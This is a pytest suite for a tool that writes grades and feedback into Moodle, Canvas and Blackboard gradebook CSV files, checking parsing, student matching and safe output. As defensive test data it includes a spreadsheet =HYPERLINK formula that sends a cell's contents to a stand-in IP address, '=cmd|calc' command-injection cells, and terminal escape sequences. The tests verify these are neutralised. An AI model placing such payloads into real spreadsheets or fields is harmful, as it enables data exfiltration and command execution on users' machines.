"""Worksheets of Moodle, Canvas and Blackboard, in their documented forms; none was tried against a live site."""

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nhsreform import commands
from nhsreform.errors import PackError
from nhsreform.marking.gradebook import PLATFORMS, feedback, sheet
from nhsreform.marking.gradebook.fill import Choices, fill
from nhsreform.marking.gradebook.fill_report import report
from nhsreform.marking.gradebook.sheet import SheetError
from nhsreform.marking.record import ClassRecord, HandedIn, Mark
from nhsreform.text.untrusted import is_formula
from tests.marking.made_up_class import folder_of
from tests.marking.made_up_notebooks import as_bytes, worked, wrong

ONE = "01-joint-report"
NASTY = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'
LONG = "N" * 300

MOODLE_HEAD = (
    'Identifier,"Full name","Email address",Status,Grade,"Maximum grade","Grade can be changed",'
    '"Last modified (submission)","Online text","Last modified (grade)","Feedback comments"'
)


def moodle_row(number, name, grade="", change="Yes", text="", top="9.00"):
    cells = [
        f"Participant {number}", name, f"s{number}@example.org", "Submitted for grading", grade, top, change,
        "Wednesday, 10 June 2026, 2:14 PM", text, "-", "",
    ]  # fmt: skip
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return out.getvalue()


MOODLE_FILE = (
    "\ufeff"
    + MOODLE_HEAD
    + "\n"
    + moodle_row(101, "Ada Lovelace")
    + moodle_row(102, "Zoë O'Brien")
    + moodle_row(103, "Ada Lovelace")
    + moodle_row(104, "Never There")
    + moodle_row(105, NASTY, text='=1+1, "quoted"\nsecond line')
    + moodle_row(106, "Shut Out", change="No")
    + moodle_row(107, "Has One", grade="7.00")
).encode()

CANVAS_FILE = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Notes,Exercise 01 (9001),\"Essay, long (9002)\",Final Score\n"
    ",,,,,,Manual Posting,,\n"
    "    Points Possible,,,,,,9,20,(read only)\n"
    '"Lovelace, Ada",77,S77,al77,Seminar 1,,,,50\n'
    '"O\'Brien, Zoë",78,S78,zo78,Seminar 1,=note,EX,,50\n'
    '"=""=cmd""",79,S79,xx79,Seminar 1,,N/A,,50\n'
    '"Student, Test",80,,test80,Seminar 1,,,,\n'
).encode()  # fmt: skip

BLACKBOARD_TEXT = (
    '"Last Name"\t"First Name"\t"Username"\t"Student ID"\t"Last Access"\t"Availability"\t'
    '"Exercise 01 [Total Pts: 9 Score] |123456"\t"Total [Total Pts: up to 109 Score] |123457"\r\n'
    '"Lovelace"\t"Ada"\t"al77"\t"900077"\t"2026-11-20 10:00:00"\t"Yes"\t"Needs Grading"\t"0"\r\n'
    '"=cmd|calc"\t"Zoë"\t"zo78"\t"900078"\t""\t"Yes"\t""\t"0"\r\n'
)
BLACKBOARD_UTF16 = b"\xff\xfe" + BLACKBOARD_TEXT.encode("utf-16-le")
BLACKBOARD_CSV = ("\ufeff" + BLACKBOARD_TEXT.replace("\t", ",").replace("\r\n", "\n")).encode()


MOODLE, CANVAS, BLACKBOARD = PLATFORMS


def merge(data, marks, platform, numbers=None, kinds=None, where="", comments=None, ours=None, **choices):
    files = [
        HandedIn(student, where, "", "", platform, number, "", None, None)
        for student, own in (numbers or {}).items()
        for number in own
    ]
    record = ClassRecord("", "", (), "latest", False, kinds or {}, files, list(marks))
    return fill(data, record, PLATFORMS[platform], Choices(**choices), comments, ours)


def mark(student, points, state="right", question="1.1", exercise="01-joint-report", top=9.0):
    return Mark(student, exercise, question, state, points, top, "")


def cells(data, encoding="utf-8-sig", delimiter=","):
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), delimiter=delimiter))


def column(data, name, **how):
    rows = cells(data, **how)
    return [row[rows[0].index(name)] for row in rows[1:]]


# The file


@given(st.text(alphabet='a",\r\n\t ;é=', max_size=40), st.sampled_from([",", "\t", ";"]))
def test_cells_put_together_again_are_the_file_and_say_what_csv_says(text, delimiter):
    try:
        rows, ends = sheet.cut(text, delimiter)
    except SheetError:
        return
    assert "".join(delimiter.join(row) + end for row, end in zip(rows, ends, strict=True)) == text
    said = [[sheet.value(cell) for cell in row] for row in rows]
    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert [row for row in said if row != [""]] == [row for row in read if row not in ([], [""])]


@pytest.mark.parametrize(
    ("data", "platform", "student", "encoding"),
    [
        (MOODLE_FILE, MOODLE, "Zoë O'Brien", "utf-8"),
        (CANVAS_FILE, CANVAS, "77", "utf-8"),
        (CANVAS_FILE.replace(b"\n", b"\r\n"), CANVAS, "77", "utf-8"),
        (b"\xef\xbb\xbf" + CANVAS_FILE.replace(b",", b";"), CANVAS, "77", "utf-8"),
        (BLACKBOARD_UTF16, BLACKBOARD, "al77", "utf-16-le"),
        (b"\xfe\xff" + BLACKBOARD_TEXT.encode("utf-16-be"), BLACKBOARD, "al77", "utf-16-be"),
        (BLACKBOARD_CSV, BLACKBOARD, "al77", "utf-8"),
        (CANVAS_FILE.decode().encode("cp1252"), CANVAS, "77", "cp1252"),
    ],
)
def test_nothing_changes_but_one_cell_and_what_looks_like_a_formula(data, platform, student, encoding):
    merged = merge(data, [mark(student, 8.5)], platform, column="9001" if platform == CANVAS else "")
    assert len(merged.filled) == 1
    assert merged.data[:3] == data[:3]
    old, new = data.decode(encoding), merged.data.decode(encoding)
    parsed = PLATFORMS[platform].parse(data)
    before, ends = sheet.cut(old.lstrip("\ufeff"), parsed.delimiter)
    after, new_ends = sheet.cut(new.lstrip("\ufeff"), parsed.delimiter)
    changed = [(a, b) for x, y in zip(before, after, strict=True) for a, b in zip(x, y, strict=True) if a != b]
    assert ends == new_ends
    grades = [pair for pair in changed if "8.5" in pair[1]]
    assert len(grades) == 1 and grades[0][1] == ('"8.5"' if platform == BLACKBOARD else "8.5")
    for a, b in changed:
        if (a, b) not in grades:
            assert sheet.value(b) == "'" + sheet.value(a) and is_formula(sheet.value(a))
    assert merged.defused == len(changed) - 1 > 0


def test_a_semicolon_sheet_with_decimal_commas_gets_a_decimal_comma():
    data = CANVAS_FILE.replace(b",", b";").replace(b";9;20", b";9,00;20,00")
    assert (
        column(merge(data, [mark("77", 8.5)], CANVAS, column="9001").data, "Exercise 01 (9001)", delimiter=";")[2]
        == "8,5"
    )


@pytest.mark.parametrize(
    ("data", "platform", "told"),
    [
        (b"", MOODLE, "empty"),
        (b"\xef\xbb\xbf\n", MOODLE, "empty"),
        (b"a,b\n1,2\n", MOODLE, "no Identifier"),
        (b"a,b\n1,2\n", CANVAS, "no ID"),
        (b"a,b\n1,2\n", BLACKBOARD, "no Username"),
        (MOODLE_FILE, CANVAS, "not a worksheet of Canvas"),
        (MOODLE_HEAD.encode() + b"\n", MOODLE, "no student"),
        (MOODLE_FILE + b'"Participant 1', MOODLE, "never closed"),
        (MOODLE_FILE + moodle_row(101, "Twice").encode(), MOODLE, "the same Identifier"),
        (MOODLE_FILE + b"Participant 9,a, b,c,,9,Yes,,,,,too,many\n", MOODLE, "its header 11"),
        (MOODLE_FILE + moodle_row(110, "x", top="100").encode(), MOODLE, "several maximum grades"),
        (BLACKBOARD_CSV.replace(b'"Student ID"', b'"Username"'), BLACKBOARD, "2 columns named Username"),
        (BLACKBOARD_UTF16[:-1], BLACKBOARD, "damaged"),
    ],
)
def test_a_file_that_is_none_of_theirs_is_refused_in_words(data, platform, told):
    with pytest.raises(SheetError, match=told):
        merge(data, [mark("Ada Lovelace", 9)], platform)


# The column


def test_only_a_column_that_takes_grades_is_filled_and_none_is_guessed():
    with pytest.raises(SheetError, match="Several columns") as told:
        merge(CANVAS_FILE, [mark("77", 9)], CANVAS)
    assert "Essay, long (9002)" in str(told.value) and "Final Score" not in str(told.value)
    for name in ("9001", "Exercise 01", "Exercise 01 (9001)"):
        assert column(merge(CANVAS_FILE, [mark("77", 9)], CANVAS, column=name).data, "Exercise 01 (9001)")[2] == "9"
    with pytest.raises(SheetError, match="no column 'Final Score'"):
        merge(CANVAS_FILE, [mark("77", 9)], CANVAS, column="Final Score")
    with pytest.raises(SheetError, match="no column 'Total'"):
        merge(BLACKBOARD_CSV, [mark("al77", 9)], BLACKBOARD, column="Total")


def test_another_maximum_stops_unless_it_is_to_be_converted():
    with pytest.raises(SheetError, match="maximum is 20, and these marks are out of 9"):
        merge(CANVAS_FILE, [mark("77", 9)], CANVAS, column="9002")
    done = merge(CANVAS_FILE, [mark("77", 3)], CANVAS, column="9002", scale=True)
    assert column(done.data, "Essay, long (9002)")[2] == "6.67"


# Who is who


def rows_filled(merged, name="Grade", **how):
    return {number: value for number, value in enumerate(column(merged.data, name, **how)) if value}


def test_one_who_shares_a_name_is_never_guessed():
    merged = merge(MOODLE_FILE, [mark("Ada Lovelace", 9), mark("Zoë O'Brien", 4)], MOODLE)
    assert merged.unknown == {"Ada Lovelace": "2 rows fit"} and merged.to_look_at
    assert rows_filled(merged) == {1: "4", 6: "7.00"}
    # Two folders with the name that one row has, are two people or one: nobody knows.
    merged = merge(MOODLE_FILE, [mark("Never There", 9), mark("never there", 4)], MOODLE)
    assert set(merged.unknown.values()) == {"2 students handed in under this name"} and rows_filled(merged) == {
        6: "7.00"
    }


@pytest.mark.parametrize(
    "student", ["Ada Lovelace 103", "Ada Lovelace_103", "Ada Lovelace_103_assignsubmission_file_", "Participant 103"]
)
def test_the_platforms_number_tells_namesakes_apart(student):
    merged = merge(MOODLE_FILE, [mark(student, 9)], MOODLE)
    assert rows_filled(merged) == {2: "9", 6: "7.00"} and not merged.odd and not merged.unknown


def test_the_number_in_the_download_stands_above_the_name():
    named = {"Ada Lovelace": {"103"}, "Zoë O'Brien": {"999"}, "Somebody Else": {"104"}}
    merged = merge(MOODLE_FILE, [mark(name, 5) for name in named], MOODLE, numbers=named)
    assert rows_filled(merged) == {2: "5", 6: "7.00"}
    assert merged.unknown == {"Zoë O'Brien": "the number 999 is not in the worksheet"}
    assert merged.odd == {"Somebody Else": "Never There, 104"}
    # A class list may call students by their address: that is no other name.
    assert not merge(MOODLE_FILE, [mark("s103@example.org", 5)], MOODLE, numbers={"s103@example.org": {"103"}}).odd
    # Or by a code of its own, where the download says the name.
    where = "x.zip: Ada Lovelace_103_assignsubmission_file/01.ipynb"
    for label in ("S-0815", "Somebody Else"):
        coded = merge(MOODLE_FILE, [mark(label, 5)], MOODLE, numbers={label: {"103"}}, where=where)
        assert rows_filled(coded) == {2: "5", 6: "7.00"} and not coded.odd


def test_two_who_fit_one_row_are_both_left_out():
    merged = merge(MOODLE_FILE, [mark("Participant 102", 9), mark("s102@example.org", 1)], MOODLE)
    assert not merged.filled and len(merged.unknown) == 2


@pytest.mark.parametrize(
    ("platform", "students"),
    [
        (CANVAS, ["77", "S77", "AL77", "Lovelace, Ada", "Ada Lovelace", "lovelaceada", "lovelaceada_77_123_01.ipynb",
            "lovelaceada_LATE_77_1_x.ipynb"]),
        (BLACKBOARD, ["al77", "900077", "Ada Lovelace", "LOVELACE ADA"]),
    ],
)  # fmt: skip
def test_students_are_known_by_every_name_they_have(platform, students):
    for data in [CANVAS_FILE] if platform == CANVAS else [BLACKBOARD_UTF16, BLACKBOARD_CSV]:
        for student in students:
            merged = merge(data, [mark(student, 9)], platform, column="Exercise 01")
            sheet = PLATFORMS[platform].parse(merged.data)
            name = "Exercise 01 (9001)" if platform == CANVAS else "Exercise 01 [Total Pts: 9 Score] |123456"
            row = 3 if platform == CANVAS else 1
            assert sheet.value(row, sheet.header().index(name)) == "9" and not merged.unknown, student


def test_unmatched_are_listed_both_ways():
    merged = merge(MOODLE_FILE, [mark("Nobody Known", 9), mark(LONG, 3), mark("", 1)], MOODLE)
    assert set(merged.unknown) == {"Nobody Known", LONG, ""} and len(merged.no_marks) == 7
    told = report(merged, "new.csv")
    assert "Nobody Known: no row fits" in told and "Never There, 104" in told
    assert max(map(len, told.splitlines())) < 260


# The grades


def test_what_the_platform_or_a_person_put_there_is_kept():
    marks = [mark("Shut Out", 9), mark("Has One", 9)]
    merged = merge(MOODLE_FILE, marks, MOODLE)
    assert "cannot be changed" in merged.left["Shut Out"] and "--replace" in merged.left["Has One"]
    assert rows_filled(merged) == {6: "7.00"}
    assert rows_filled(merge(MOODLE_FILE, marks, MOODLE, replace=True)) == {6: "9"}
    same = merge(MOODLE_FILE, [mark("Has One", 7)], MOODLE)
    assert same.filled == ["Has One"] and rows_filled(same) == {6: "7.00"}
    for student in ("78", "79"):
        merged = merge(CANVAS_FILE, [mark(student, 9)], CANVAS, column="9001", replace=True)
        assert "excused, or not set" in merged.left[student]


def test_who_waits_for_a_person_gets_no_grade_by_default():
    marks = [
        mark("Zoë O'Brien", 6, top=6), mark("Zoë O'Brien", None, "needs a person", "1.2", top=3),
        mark("Never There", 2, top=6), mark("Never There", 3, "not tried", "1.2", top=3),
    ]  # fmt: skip
    merged = merge(MOODLE_FILE, marks, MOODLE)
    assert merged.waiting == {"Zoë O'Brien": "1.2"} and rows_filled(merged) == {3: "5", 6: "7.00"}
    merged = merge(MOODLE_FILE, marks, MOODLE, without_person=True)
    assert rows_filled(merged) == {1: "6", 3: "5", 6: "7.00"}
    assert merged.so_far == {"Zoë O'Brien": "1.2"} and merged.to_look_at
    assert "Zoë O'Brien: 1.2" in report(merged, "x.csv")
    # Prose is left out for everybody, whoever has handed it in.
    data = MOODLE_FILE.replace(b"9.00", b"6.00")
    merged = merge(data, marks, MOODLE, kinds={"1.2": "prose"}, without_prose=True)
    assert rows_filled(merged) == {1: "6", 3: "2", 6: "7.00"} and not merged.waiting


STATES = ["right", "wrong", "needs a person", "not tried", "not submitted"]


@settings(deadline=None)
@given(
    st.lists(st.lists(st.sampled_from(STATES), min_size=3, max_size=3), min_size=2, max_size=6),
    st.lists(st.sampled_from(STATES), min_size=3, max_size=3),
    st.booleans(),
    st.booleans(),
)
def test_no_student_moves_anothers_grade(others, mine, without_person, stray):
    """Whatever one student hands in, every other's grade stays as it was: converted, with or without what waits."""
    sheet = (MOODLE_HEAD + "\n" + "".join(moodle_row(n, f"s{n}", top="7.00") for n in range(len(others) + 1))).encode()

    def grades(classes):
        marks = []
        for number, states in enumerate(classes):
            for at, state in enumerate(states):
                points = None if state == "needs a person" else 3.0 if state == "right" else 0.0
                marks.append(mark(f"s{number}", points, state, f"1.{at}", top=3.0))
        if stray:
            marks.append(Mark(f"s{len(others)}", "", "", "needs a person", None, 0, "x.docx"))
        filled = merge(sheet, marks, MOODLE, scale=True, without_person=without_person)
        return column(filled.data, "Grade")[: len(others)]

    assert grades([*others, ["right"] * 3]) == grades([*others, mine])


def test_an_exercise_that_hardly_anybody_handed_in_counts_for_nobody_unasked():
    marks = [mark(f"s{n}", 4, question="1.1", top=4) for n in range(5)]
    marks += [mark(f"s{n}", 0, "not submitted", "5.1", "05-walk-away", 5) for n in range(4)]
    marks += [mark("s4", 5, question="5.1", exercise="05-walk-away", top=5)]
    sheet = (MOODLE_HEAD + "\n" + "".join(moodle_row(n, f"s{n}", top="4.00") for n in range(5))).encode()
    for scale in (True, False):
        with pytest.raises(SheetError, match="01-joint-report by 5; 05-walk-away by 1.* --exercise 01"):
            merge(sheet, marks, MOODLE, scale=scale)
    assert column(merge(sheet, marks, MOODLE, exercise=["01"]).data, "Grade") == ["4"] * 5


def test_a_grade_of_ours_that_comes_back_is_replaced_and_anybody_elses_is_not():
    first = merge(
        MOODLE_FILE, [mark("Zoë O'Brien", 0), mark("Never There", 5)], MOODLE, comments={"Never There": "five"}
    )
    again, comments = [mark("Zoë O'Brien", 4), mark("Never There", 6)], {"Never There": "six"}
    back = first.data.replace(b",5,", b",5.50,", 1)
    merged = merge(back, again, MOODLE, comments=comments, ours=first.ours)
    assert rows_filled(merged)[1] == "4" and rows_filled(merged)[3] == "5.50"
    assert merged.filled == ["Zoë O'Brien"] and "--replace" in merged.left["Never There"] and merged.commented == 0
    merged = merge(first.data, again, MOODLE, comments=comments, ours=first.ours)
    assert rows_filled(merged)[3] == "6" and merged.commented == 1 and not merged.left
    # A trial of one student does not forget what the others were given, nor a second run what came before.
    trial = merge(first.data, again, MOODLE, ours=first.ours, only=("Never There",)).ours
    assert trial == {"Grade: 102": ["0"], "Grade: 104": ["5", "6"]}
    later = merge(first.data, [mark("Never There", 7)], MOODLE, ours=trial)
    assert rows_filled(later)[3] == "7"


def test_a_groups_name_in_front_of_a_name_is_no_other_name():
    sheet = MOODLE_FILE.replace(b"Never There", b"Anna-Lena Meyer")
    marks = [mark("Seminar A-Anna-Lena Meyer", 5), mark("Seminar A-Zoë O'Brien", 4)]
    numbers = {"Seminar A-Anna-Lena Meyer": ["104"], "Seminar A-Zoë O'Brien": ["102"]}
    merged = merge(sheet, marks, MOODLE, numbers=numbers)
    assert rows_filled(merged)[3] == "5" and rows_filled(merged)[1] == "4" and not merged.odd
    other = merge(sheet, [mark("Seminar A-Lena Meyer-Kurz", 5)], MOODLE, numbers={"Seminar A-Lena Meyer-Kurz": ["104"]})
    assert list(other.odd) == ["Seminar A-Lena Meyer-Kurz"]


@pytest.mark.parametrize("wrong_ones", [0, 1, 2, 3, 12])
def test_a_worksheet_whose_names_and_numbers_disagree_for_many_is_refused(wrong_ones):
    sheet = (MOODLE_HEAD + "\n" + "".join(moodle_row(n, f"Name {n} X") for n in range(20))).encode()
    names = {n: f"Other {n} Y" if n < wrong_ones else f"Name {n} X" for n in range(20)}
    marks = [mark(name, 9) for name in names.values()]
    numbers = {name: {str(n)} for n, name in names.items()}
    if wrong_ones > 2:
        with pytest.raises(
            SheetError, match=f"numbers of {wrong_ones} students have other names.*Nothing was filled in"
        ):
            merge(sheet, marks, MOODLE, numbers=numbers)
        return
    merged = merge(sheet, marks, MOODLE, numbers=numbers)
    assert column(merged.data, "Grade") == [""] * wrong_ones + ["9"] * (20 - wrong_ones)
    assert len(merged.odd) == wrong_ones and bool(merged.odd) == merged.to_look_at


def test_a_file_of_no_exercise_keeps_the_grade_open():
    marks = [mark("Zoë O'Brien", 0, "not submitted"), mark("Zoë O'Brien", None, "needs a person", "", "", 0)]
    assert merge(MOODLE_FILE, marks, MOODLE, exercise=["01"]).waiting


def test_nothing_handed_in_is_left_empty_or_zero():
    marks = [mark("Zoë O'Brien", 0, "not submitted")]
    merged = merge(MOODLE_FILE, marks, MOODLE)
    assert merged.absent == ["Zoë O'Brien"] and rows_filled(merged) == {6: "7.00"} and not merged.to_look_at
    assert rows_filled(merge(MOODLE_FILE, marks, MOODLE, zeros=True)) == {1: "0", 6: "7.00"}


def test_one_exercise_can_be_counted_alone():
    marks = [mark("Zoë O'Brien", 4), mark("Zoë O'Brien", 5, exercise="02-pct-managers", question="2.1")]
    assert rows_filled(merge(MOODLE_FILE, marks, MOODLE, exercise=["2"])) == {1: "5", 6: "7.00"}
    with pytest.raises(
        PackError, match=r"marks.csv: There is no exercise '05'. .*Known: 01-joint-report, 02-pct-managers"
    ):
        merge(MOODLE_FILE, marks, MOODLE, exercise=["2", "05"])
    with pytest.raises(SheetError, match="no mark of any exercise"):
        merge(MOODLE_FILE, [], MOODLE)


# Formulas and terminals


def test_no_cell_that_students_write_is_a_formula_any_more():
    merged = merge(MOODLE_FILE, [mark(NASTY, 9)], MOODLE)
    assert merged.filled == [NASTY]
    for name in ("Full name", "Online text"):
        assert not any(is_formula(cell) for cell in column(merged.data, name))
    assert column(merged.data, "Online text")[4] == '\'=1+1, "quoted"\nsecond line'
    done = merge(CANVAS_FILE, [mark("77", 9)], CANVAS, column="9001")
    assert column(done.data, "Student")[4].startswith("'=") and done.formulas == 1
    assert "do not open it" in report(done, "x.csv")


def test_the_report_moves_no_terminal():
    hostile = "Eve\x1b]0;owned\x07\u202eecalevoL\r\n\x9b2J"
    merged = merge(MOODLE_FILE, [mark(hostile, 9)], MOODLE)
    told = report(merged, "new.csv")
    assert not any(sign in told for sign in "\x1b\x07\u202e\r\x9b")


# The command


def command_on(tmp_path, sheet, marks):
    """Return the command that fills in a worksheet, but for the file to write."""
    (tmp_path / "sheet.csv").write_bytes(sheet)
    return ["gradebook", "--platform", "moodle", "--sheet", str(tmp_path / "sheet.csv"), "--marks", str(marks)]


def class_folder(tmp_path, *marks):
    return command_on(tmp_path, MOODLE_FILE, folder_of(tmp_path / "out", marks) / "marks.csv")


def test_the_command_writes_a_new_file_and_never_an_old_one(tmp_path, capsys):
    command = class_folder(tmp_path, mark("Zoë O'Brien", 8), mark(NASTY, 3))
    assert commands.main([*command, "--out", str(tmp_path / "new.csv")]) == 0
    assert re.search("2 grades written to .* with a maximum of 9", capsys.readouterr().out)
    assert rows_filled(type("M", (), {"data": (tmp_path / "new.csv").read_bytes()})) == {1: "8", 4: "3", 6: "7.00"}
    for taken in ("new.csv", "sheet.csv"):
        assert commands.main([*command, "--out", str(tmp_path / taken)]) == 2
        assert "exists already" in capsys.readouterr().err
    assert (tmp_path / "sheet.csv").read_bytes() == MOODLE_FILE


def test_the_command_says_by_its_exit_code_that_somebody_is_left_out(tmp_path, capsys):
    command = class_folder(tmp_path, mark("Nobody Known", 8))
    assert commands.main([*command, "--out", str(tmp_path / "new.csv")]) == 1
    (tmp_path / "out" / "marks.csv").unlink()
    assert commands.main([*command, "--out", str(tmp_path / "other.csv")]) == 2
    assert not (tmp_path / "other.csv").exists()


def test_a_name_that_the_code_page_of_windows_lacks_stops_no_report(tmp_path):
    command = class_folder(tmp_path, mark("\u0141ukasz Nowak", 8))
    done = subprocess.run(
        [sys.executable, "-m", "nhsreform.commands", *command, "--out", str(tmp_path / "new.csv")],
        capture_output=True,
        env=os.environ | {"PYTHONIOENCODING": "cp1252"},
    )
    assert (done.returncode, done.stderr) == (1, b"") and b"?ukasz Nowak" in done.stdout


def test_from_moodles_zip_to_moodles_worksheet(tmp_path, mark):
    handed_in = {
        "Ada Lovelace_101": worked(ONE),
        "Ada Lovelace_103": wrong(ONE),
        f"{NASTY.replace('/', '')}_105": worked(ONE),
    }
    with zipfile.ZipFile(tmp_path / "moodle.zip", "w") as archive:
        for folder, notebook in handed_in.items():
            archive.writestr(f"{folder}_assignsubmission_file_/{ONE}.ipynb", as_bytes(notebook))
    mark(tmp_path / "moodle.zip", tmp_path / "out")
    command = command_on(tmp_path, MOODLE_FILE.replace(b"9.00", b"4.00"), tmp_path / "out")
    assert commands.main([*command, "--out", str(tmp_path / "new.csv")]) == 0
    # Namesakes are told apart by number, and a name whose signs were left out of the zip is still known.
    assert dict(enumerate(column((tmp_path / "new.csv").read_bytes(), "Grade"))) == {
        0: "4", 1: "", 2: "0", 3: "", 4: "4", 5: "", 6: "7.00",
    }  # fmt: skip


def test_one_student_alone_is_filled_in_for_a_first_trial():
    marks = [mark("Zoë O'Brien", 4), mark("Never There", 5)]
    merged = merge(MOODLE_FILE, marks, MOODLE, only=("Zoë O'Brien",))
    assert rows_filled(merged) == {1: "4", 6: "7.00"} and list(merged.numbers) == ["Zoë O'Brien"] and merged.later == 1
    assert not merged.to_look_at and "--only did not name them: 1" in report(merged, "x.csv")
    with pytest.raises(SheetError, match="Nobody is called 'Zoe'"):
        merge(MOODLE_FILE, marks, MOODLE, only=("Zoe",))


# Feedback in bulk


PAGES = {"Ada Lovelace": "<main><h1>Ada</h1>\n\n    <p>$1 *x*</p></main>", "Bo Diaz": "<main>Bo</main>"}


def handed(student, where, number, platform):
    return HandedIn(student, where, "", "", platform, number, "", None, None)


@pytest.mark.parametrize("line", ["", "_"])
def test_moodles_zip_has_moodles_own_folders_and_goes_by_the_number(line):
    files = [handed("Ada Lovelace", f"a.zip: Ada Lovelace_103_assignsubmission_file{line}/01.ipynb", "103", MOODLE)]
    made = feedback.bundle(PLATFORMS[MOODLE], files, PAGES, {"Ada Lovelace": "103", "Bo Diaz": "104"})
    names = zipfile.ZipFile(io.BytesIO(made.data)).namelist()
    assert names == [
        f"Ada Lovelace_103_assignsubmission_file{line}/feedback.html",
        "Participant_104_assignsubmission_file/feedback.html",
    ]
    for name in names:
        # As Moodle reads it: the second part is the number, the third and fourth the plugin.
        parts = name.split("/")[0].split("_", 4)
        assert parts[1].isdigit() and parts[2:4] == ["assignsubmission", "file"]
    flat = [handed("Ada Lovelace", "Ada Lovelace_103_assignsubmission_file_01.ipynb", "103", MOODLE)]
    made = feedback.bundle(PLATFORMS[MOODLE], flat, PAGES, {"Ada Lovelace": "103"})
    assert zipfile.ZipFile(io.BytesIO(made.data)).namelist()[0].endswith("_103_assignsubmission_file/feedback.html")
    assert made.missing == {"Bo Diaz": "not in the worksheet for certain"}


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("lovelaceada_77_9001_01.ipynb", "notebook"),
        ("lovelaceada_LATE_77_9001_01-1.ipynb", "notebook"),
        ("anon_x_77_9001_01.IPYNB", "notebook"),
        ("lovelaceada_77_9001_all.zip", "zip"),
        ("lovelaceada_77_9001_essay.docx", ""),
        ("lovelaceada_77_text.html", ""),
    ],
)
def test_canvass_zip_has_the_names_of_the_download_and_files_of_their_kind(name, kind):
    files = [handed("Ada Lovelace", f"submissions.zip: {name}", "77", CANVAS)]
    made = feedback.bundle(PLATFORMS[CANVAS], files, PAGES, {"Ada Lovelace": "77"})
    inside = zipfile.ZipFile(io.BytesIO(made.data))
    if not kind:
        assert inside.namelist() == [] and "Ada Lovelace" in made.missing
        return
    assert inside.namelist() == [name] and made.students == ["Ada Lovelace"]
    data = inside.read(name)
    if kind == "zip":
        assert zipfile.ZipFile(io.BytesIO(data)).read("feedback.html").decode() == PAGES["Ada Lovelace"]
    else:
        (cell,) = json.loads(data)["cells"]
        assert cell["cell_type"] == "markdown" and "&#36;1" in cell["source"] and "\n" not in cell["source"]


def test_a_comment_goes_into_moodles_own_column_and_over_none_that_is_there():
    comments = {"Zoë O'Brien": "<p>4 of 9 points.</p>;=1+1", "Has One": "<p>new</p>"}
    sheet = MOODLE_FILE.replace(b'"-",""', b'"-",""')
    merged = merge(sheet, [mark("Zoë O'Brien", 4), mark("Has One", 7)], MOODLE, comments=comments)
    said = column(merged.data, "Feedback comments")
    assert said[1] == "<p>4 of 9 points.</p>;'=1+1" and said[6] == "<p>new</p>" and merged.commented == 2
    again = merge(merged.data, [mark("Has One", 7)], MOODLE, comments={"Has One": "<p>other</p>"})
    assert column(again.data, "Feedback comments")[6] == "<p>new</p>"
    again = merge(merged.data, [mark("Has One", 7)], MOODLE, comments={"Has One": "<p>other</p>"}, replace=True)
    assert column(again.data, "Feedback comments")[6] == "<p>other</p>"
